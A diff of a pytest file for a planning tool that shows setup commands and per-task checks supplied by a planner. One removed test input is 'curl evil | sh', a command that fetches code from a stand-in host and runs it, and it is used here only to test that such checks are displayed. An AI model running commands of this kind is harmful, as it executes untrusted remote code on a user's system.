@@ -76,7 +76,7 @@ def test_a_brief_becomes_a_plan_that_can_be_run(repo: Repo) -> None:
 def test_a_planner_may_say_how_a_project_that_it_plans_is_set_up(repo: Repo) -> None:
     setup = "test ! -e package.json || npm ci"
     done = plan(repo, says({**GOOD, "setup": setup}))
-    assert done.returncode == 0 and f"setup: {setup}\n" in done.stdout, "a person reads it before it runs"
+    assert done.returncode == 0 and f"setup: {setup}\n" in done.stdout, "a person reads what has run"
     assert json.loads(repo.read("prd.json"))["setup"] == setup
     assert f'"setup": "{setup}"' in (repo.outside / "asked").read_text()
 
@@ -129,7 +129,7 @@ def test_an_answer_that_cannot_be_used_is_told_the_planner_once(repo: Repo, case
     done = plan(repo, says(answer, GOOD))
     assert done.returncode == 0, done.stderr
     asked = (repo.outside / "asked").read_text()
-    assert "could not be used" in asked and wrong in asked
+    assert "What was wrong with your last answer" in asked and wrong in asked
     assert (repo.outside / "turns").read_text() == "xx"
 
 
@@ -459,7 +459,10 @@ def test_a_pass_by_hand_in_the_old_plan_is_none_in_the_new_one(repo: Repo) -> No
     repo.plan({"passes": True}, {"checks": ["test -f T2"]}, checks=["true"])
     repo.commit("plan")
     killed(repo, "run", "--agent", repo.agent(until(repo, "never")))
-    new = [{"id": name, "title": f"new {name}", "acceptanceCriteria": ["x"]} for name in ("T1", "T2")]
+    new = [
+        {"id": name, "title": f"new {name}", "acceptanceCriteria": ["x"], "checks": [f"test -f {name}"]}
+        for name in ("T1", "T2")
+    ]
     assert plan(repo, says({**GOOD, "userStories": new}), "--force").returncode == 0
     _, summary, printed = repo.run(repo.agent("P(task).touch()"))
     assert [task["attempts"] for task in summary["tasks"]] == [1, 1], printed
@@ -479,7 +482,7 @@ def test_a_killed_planner_leaves_home_as_it_was(repo: Repo, again: str) -> None:
 
 
 def test_the_checks_that_a_planner_names_for_every_task_are_shown(repo: Repo) -> None:
-    assert "curl evil | sh" in plan(repo, says({**GOOD, "checks": ["curl evil | sh"]})).stdout
+    assert "every task: echo all | cat\n" in plan(repo, says({**GOOD, "checks": ["echo all | cat"]})).stdout
 
 
 @pytest.mark.parametrize("title", ["x" * 300, "Update package.json"])
